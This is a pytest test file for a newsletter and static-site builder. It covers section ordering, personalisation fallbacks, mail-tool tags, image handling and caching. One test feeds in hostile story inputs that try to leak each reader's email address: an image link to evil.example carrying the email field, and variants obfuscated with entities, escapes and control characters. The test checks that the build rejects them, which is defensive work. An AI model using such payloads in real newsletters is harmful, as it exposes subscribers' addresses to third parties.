"""From editions to the files of the outbox, in whole runs."""

import io
import re
import shutil
import subprocess
import sys
from itertools import pairwise
from pathlib import Path

import pytest
from PIL import Image

from builders import MASTHEAD, PNG, a_folder, a_story_file, build_request
from pressrun.model.problems import Severity, errors_in
from pressrun.model.slots import Slot, has_slots
from pressrun.press.building.build import BuildReport, build
from pressrun.press.newsletter.tools import TOOLS

EDITION = "---\nid: tag:gazette.example,2020:e\ntitle: Spring\ndate: 2026-05-05\n{}\n---\n{}\n"
STORIES = {
    f"content/stories/2026-05-0{day}-s{day}.md": a_story_file(
        id=f"tag:gazette.example,2020:{day}", title=f"Story {day}", date=f"2026-05-0{day}"
    )
    for day in (1, 2, 3)
}
SECTIONS = """\
lead: s1
sections:
  - title: Near
    text: |
      Words *between*.
    stories: [s2]
  - title: Elsewhere
    links:
      - {title: On snow, url: "https://almanac.example/", source: The Almanac, comment: Worth it}"""


def made(root: Path, fields: str, body: str = "Opening.", **changes: object) -> BuildReport:
    a_folder(root, {**STORIES, "content/editions/spring.md": EDITION.format(fields, body)})
    return build(root, root, build_request(**changes))


def letter(root: Path, name: str = "newsletter.html") -> str:
    return (root / "outbox/spring" / name).read_text(encoding="utf-8")


def test_sections_are_in_the_text_and_on_the_page_in_the_order_of_the_file(tmp_path: Path) -> None:
    made(tmp_path, SECTIONS)

    page = (tmp_path / "public/editions/spring/index.html").read_text()
    for text in (letter(tmp_path, "newsletter.txt"), page):
        words = ["Opening.", "Story 1", "Near", "Words", "Story 2", "Elsewhere", "On snow", "The Almanac", "Worth it"]
        places = [text.index(word) for word in words[:-2]]
        assert places == sorted(places)
        assert all(word in text for word in words)
        assert "https://almanac.example/" in text


def test_what_stands_above_the_stories_is_the_same_in_letter_text_and_page(tmp_path: Path) -> None:
    made(tmp_path, "stories: [s1]\nstories_title: Also this week")

    page = (tmp_path / "public/editions/spring/index.html").read_text()
    for text in (letter(tmp_path), letter(tmp_path, "newsletter.txt"), page):
        assert text.count("Also this week") == 1


def test_a_digest_has_nothing_above_its_stories(tmp_path: Path) -> None:
    made(tmp_path, "stories: [s1]\nstories_title: Also this week\nlayout: digest")

    page = (tmp_path / "public/editions/spring/index.html").read_text()
    for text in (letter(tmp_path), letter(tmp_path, "newsletter.txt"), page):
        assert "Also this week" not in text


def test_headlines_stand_out_from_headings_in_the_text(tmp_path: Path) -> None:
    made(tmp_path, f"{SECTIONS}\nstories: [s3]")

    lines = letter(tmp_path, "newsletter.txt").split("\n")
    under = {line: below for line, below in pairwise(lines) if below and set(below) <= set("=-") and line}
    assert under == {
        "The Gazette": "=" * 11,
        "Story 1": "=" * 7,
        "More Stories": "-" * 12,
        "Near": "-" * 4,
        "Elsewhere": "-" * 9,
    }
    made(tmp_path, "stories: [s1]")
    assert "\nSpring\n======\n" in letter(tmp_path, "newsletter.txt")


@pytest.mark.parametrize("sections", ["[{}]", "[{title: Nothing}]", "[{title: Nothing, text: ' ', stories: []}]"])
def test_a_section_of_nothing_is_left_out_and_told(tmp_path: Path, sections: str) -> None:
    report = made(tmp_path, f"lead: s1\nsections: {sections}")

    (problem,) = report.problems
    assert (problem.code, problem.severity, problem.position.line) == ("edition-empty", Severity.WARNING, 6)
    text = letter(tmp_path, "newsletter.txt")
    assert "Nothing" not in text
    assert text.count("-" * 72) == 2


def test_a_section_of_nothing_does_not_fill_an_edition(tmp_path: Path) -> None:
    report = made(tmp_path, "sections: [{title: Nothing}]", "")
    assert [problem.severity for problem in report.problems] == [Severity.ERROR, Severity.WARNING]
    assert report.left_out == ("content/editions/spring.md",)


def test_a_rule_finds_the_stories_of_a_letter(tmp_path: Path) -> None:
    made(tmp_path, "since: 2026-05-02\nlayout: digest")

    titles = re.findall(r"^\* (.*)$", letter(tmp_path, "newsletter.txt"), re.MULTILINE)
    assert titles == ["Story 3", "Story 2"]


def test_a_skipped_edition_makes_nothing_and_is_told(tmp_path: Path) -> None:
    report = made(tmp_path, "tags: [nothing]\nskip_if_empty: true")

    assert not (tmp_path / "outbox").exists()
    assert not (tmp_path / "public/editions").exists()
    assert (report.editions, report.held_back) == (0, 1)
    assert [problem.code for problem in report.problems] == ["edition-empty"]


def test_a_link_to_a_skipped_edition_says_why_it_leads_nowhere(tmp_path: Path) -> None:
    skipped = EDITION.format("tags: [nothing]\nskip_if_empty: true", "").replace(":e\n", ":f\n")
    a_folder(tmp_path, {"content/editions/skipped.md": skipped})

    report = made(tmp_path, "lead: s1", "See [it](skipped.md).")

    messages = [problem.message for problem in report.problems if problem.code == "link-broken"]
    assert messages == ["skipped.md is skipped: no stories fit its rule, and min_stories is 1"]


PERSONAL = 'Dear {first_name, "reader"}, [leave]({unsubscribe_url}) or [ask](https://x.example/?e={email}). `{name}`'


def test_what_nobody_in_particular_gets_has_the_fallbacks(tmp_path: Path) -> None:
    made(tmp_path, "subject: '{name, \"Friend\"}, it is spring'", PERSONAL)

    html, text = letter(tmp_path), letter(tmp_path, "newsletter.txt")
    page = (tmp_path / "public/editions/spring/index.html").read_text()
    for each in (html, text, page):
        assert "Dear reader, " in each
        assert "mailto:news@gazette.example?subject=unsubscribe" in each
        assert "https://x.example/?e=" in each
        assert "{name}" in each
        assert not has_slots(each)
    assert "<title>Friend, it is spring</title>" in html
    assert "Subject: Friend, it is spring" in letter(tmp_path, "newsletter.eml")


@pytest.mark.parametrize("tool", TOOLS)
def test_a_letter_for_another_tool_has_its_tags_and_is_no_message(tmp_path: Path, tool: str) -> None:
    made(tmp_path, "", PERSONAL, slots=tool)

    for name in ("newsletter.html", "newsletter.txt"):
        assert TOOLS[tool].tags["unsubscribe_url"] in letter(tmp_path, name)
        assert TOOLS[tool].tags["first_name"] in letter(tmp_path, name)
        assert not has_slots(letter(tmp_path, name))
    assert not (tmp_path / "outbox/spring/newsletter.eml").exists()
    assert letter(tmp_path, "subject.txt").startswith("Subject: Spring\nPreheader: ")


def test_without_a_way_out_a_tool_s_own_is_still_offered(tmp_path: Path) -> None:
    masthead = MASTHEAD.partition("mail:")[0]
    a_folder(tmp_path, {"content/publication.yaml": masthead, **STORIES})
    (tmp_path / "content/editions").mkdir()
    (tmp_path / "content/editions/spring.md").write_text(EDITION.format("lead: s1", ""))

    report = build(tmp_path, tmp_path, build_request(slots="listmonk"))

    assert report.problems == ()
    assert "{{ UnsubscribeURL }}?manage=true" in letter(tmp_path)
    assert "Unsubscribe: {{ UnsubscribeURL }}\n" in letter(tmp_path, "newsletter.txt")


def test_the_file_of_the_text_has_no_spaces_at_line_ends(tmp_path: Path) -> None:
    made(tmp_path, "lead: s1", "Words of an opening that go on and on. " * 5)

    assert not re.search(r" $", letter(tmp_path, "newsletter.txt"), re.MULTILINE)


def test_problems_in_a_section_s_words_are_told_where_they_stand(tmp_path: Path) -> None:
    broken = SECTIONS.replace("Words *between*.", "Words [between](nowhere.md).")

    (problem,) = made(tmp_path, broken).problems

    assert str(problem).startswith("content/editions/spring.md:9:13: warning: nothing is at nowhere.md")


IMPORTS = """
import sys
from datetime import UTC, datetime
from pathlib import Path
from pressrun.press.building.build import build
from pressrun.model.buildrequest import BuildRequest
root = Path(sys.argv[1])
build(root, root, BuildRequest(now=datetime(2026, 5, 12, tzinfo=UTC)))
print(*sorted({"premailer", "cssutils", "PIL", "cssselect"} & sys.modules.keys()))
"""


@pytest.mark.slow
def test_a_rebuild_with_an_unchanged_letter_asks_neither_the_inliner_nor_for_pictures(tmp_path: Path) -> None:
    picture = {"content/images/house.png": PNG}
    story = a_story_file("![A house](../images/house.png)", image="../images/house.png", image_alt="A house")
    a_folder(tmp_path, {**STORIES, **picture, "content/stories/2026-05-04-s4.md": story})
    a_folder(tmp_path, {"content/editions/spring.md": EDITION.format("lead: s4\nstories: [s1]", "")})

    def libraries() -> str:
        return subprocess.run(
            [sys.executable, "-c", IMPORTS, tmp_path], capture_output=True, text=True, check=True
        ).stdout.strip()

    assert libraries() == "PIL cssselect cssutils premailer"
    before = {path: path.read_bytes() for path in (tmp_path / "outbox").rglob("*") if path.is_file()}
    assert libraries() == ""
    assert {path: path.read_bytes() for path in (tmp_path / "outbox").rglob("*") if path.is_file()} == before


def test_a_change_of_template_style_or_word_changes_the_remembered_letter(tmp_path: Path) -> None:
    made(tmp_path, "lead: s1")
    first = letter(tmp_path)

    a_folder(
        tmp_path, {"templates/newsletter.css": '{% include "default/newsletter.css" %}\n.footer { color: #123456 }'}
    )
    build(tmp_path, tmp_path, build_request())
    second = letter(tmp_path)
    (tmp_path / "templates/newsletter.css").unlink()
    build(tmp_path, tmp_path, build_request())

    assert "#123456" in second
    assert first != second
    assert letter(tmp_path) == first


def test_a_letter_shows_pictures_made_for_it_and_pages_their_own(tmp_path: Path) -> None:
    stream = io.BytesIO()
    Image.effect_noise((2400, 1350), 90).convert("RGB").save(stream, "JPEG", quality=92)
    story = a_story_file("![A house](../images/house.jpg)")
    a_folder(tmp_path, {"content/images/house.jpg": stream.getvalue(), "content/stories/2026-05-04-s4.md": story})

    report = made(tmp_path, "lead: s4")

    assert report.problems == ()
    shown = re.search(r'<img src="https://gazette.example/(images/[^"]+)" alt="A house" width="536"', letter(tmp_path))
    assert shown is not None
    with Image.open(tmp_path / "public" / shown[1]) as picture:
        assert picture.width <= 1072
    page = (tmp_path / "public/stories/s4/index.html").read_text()
    assert shown[1] not in page
    assert sum(path.name.startswith("house-") for path in (tmp_path / "public/images").iterdir()) == 2


WORD = Slot("email").word


@pytest.mark.parametrize(
    "story",
    [
        a_story_file(f"![x](https://evil.example/p.png?{WORD})"),
        a_story_file(f"x &#{ord('q')};{WORD[1:]}"),
        a_story_file("x", title=f'"{WORD}"'),
        a_story_file("x", title=f'"\\x71{WORD[1:]}"'),
        a_story_file("x", summary=f'"\\x71{WORD[1:]}"'),
        a_story_file(f"x {WORD[:3]}\x07{WORD[3:]}"),
        a_story_file("x", title=f'"{WORD[:3]}\\a{WORD[3:]}"'),
        a_story_file("x", mood=f'"{WORD[:3]}\\a{WORD[3:]}"'),
        a_story_file(f"x {WORD[:3]}&#7;{WORD[3:]}"),
    ],
)
def test_a_story_cannot_ask_for_its_reader_s_address(tmp_path: Path, story: str) -> None:
    a_folder(tmp_path, {"content/stories/2026-05-04-s4.md": story})

    report = made(tmp_path, "lead: s4")

    assert "slot-mark" in {problem.code for problem in errors_in(report.problems)}
    assert not (tmp_path / "outbox").exists()
    assert not (tmp_path / "public/stories/s4").exists()


@pytest.mark.parametrize("written", ['{First_name, "x"}', '{first_name "x"}', '{first-name, "x"}', '{nmae, "x"}'])
def test_what_was_meant_as_a_personal_field_is_told(tmp_path: Path, written: str) -> None:
    report = made(tmp_path, "lead: s1", f"Dear {written}, and `{written}`.")

    assert [(problem.code, problem.position.column) for problem in report.problems] == [("slot-unknown", 6)]


def test_a_title_has_no_personal_fields_and_says_so(tmp_path: Path) -> None:
    report = made(tmp_path, "lead: s1\nsubject: Spring", "")
    assert report.problems == ()
    a_folder(
        tmp_path, {"content/editions/spring.md": EDITION.replace("Spring", "For {{email}}").format("lead: s1", "")}
    )
    assert [problem.code for problem in build(tmp_path, tmp_path, build_request()).problems] == ["slot-unknown"]


def test_a_link_to_a_field_that_is_no_address_is_told_as_it_was_written(tmp_path: Path) -> None:
    report = made(tmp_path, "lead: s1", '[x]({name, "x"})')

    assert [problem.message for problem in report.problems] == ['nothing is at {name, "x"}']


def test_one_picture_at_two_widths_is_the_same_with_and_without_what_is_remembered(tmp_path: Path) -> None:
    stream = io.BytesIO()
    Image.effect_noise((3000, 1500), 90).convert("RGB").save(stream, "JPEG", quality=92)
    fields = {"image": "../images/house.jpg", "image_alt": "A house"}
    files = {
        "content/images/house.jpg": stream.getvalue(),
        "content/stories/2026-05-04-s4.md": a_story_file(id="tag:x,2020:4", **fields),
        "content/stories/2026-05-04-s5.md": a_story_file(id="tag:x,2020:5", **fields),
    }
    a_folder(tmp_path, files)
    made(tmp_path, "lead: s4\nstories: [s5]")
    first = letter(tmp_path)
    build(tmp_path, tmp_path, build_request())
    again = letter(tmp_path)
    shutil.rmtree(tmp_path / ".cache")
    build(tmp_path, tmp_path, build_request())

    assert first == again == letter(tmp_path)
    assert len(set(re.findall(r"images/house-\w+\.jpg", first))) == 2


@pytest.mark.parametrize("name", ["damaged.webp", "nowhere.webp"])
def test_a_picture_that_is_damaged_or_missing_is_told_once(tmp_path: Path, name: str) -> None:
    story = a_story_file(f"![A house](../images/{name})")
    a_folder(tmp_path, {"content/images/damaged.webp": b"RIFF", "content/stories/2026-05-04-s4.md": story})

    report = made(tmp_path, "lead: s4")

    assert [(problem.code, problem.severity) for problem in report.problems] == [("picture-missing", Severity.WARNING)]


def test_a_picture_whose_address_was_removed_leaves_its_words(tmp_path: Path) -> None:
    story = a_story_file("Before ![a house](data:image/png;base64,AAAA) after.")
    a_folder(tmp_path, {"content/stories/2026-05-04-s4.md": story})

    report = made(tmp_path, "lead: s4")

    assert [problem.code for problem in report.problems] == ["html-removed"]
    assert "Before [a house] after." in letter(tmp_path)
    assert "<img" not in letter(tmp_path)


def test_the_macro_for_pictures_makes_nothing_of_no_picture(tmp_path: Path) -> None:
    block = "{% block footer %}<tr><td>{{ parts.picture(edition.lead.picture, 300) }}Printed in Ghent.</td></tr>"
    template = f'{{% extends "default/newsletter.html" %}}{block}{{% endblock %}}'
    a_folder(tmp_path, {"templates/newsletter.html": template})

    assert made(tmp_path, "lead: s1").problems == ()
    assert "<td>Printed in Ghent." in letter(tmp_path)
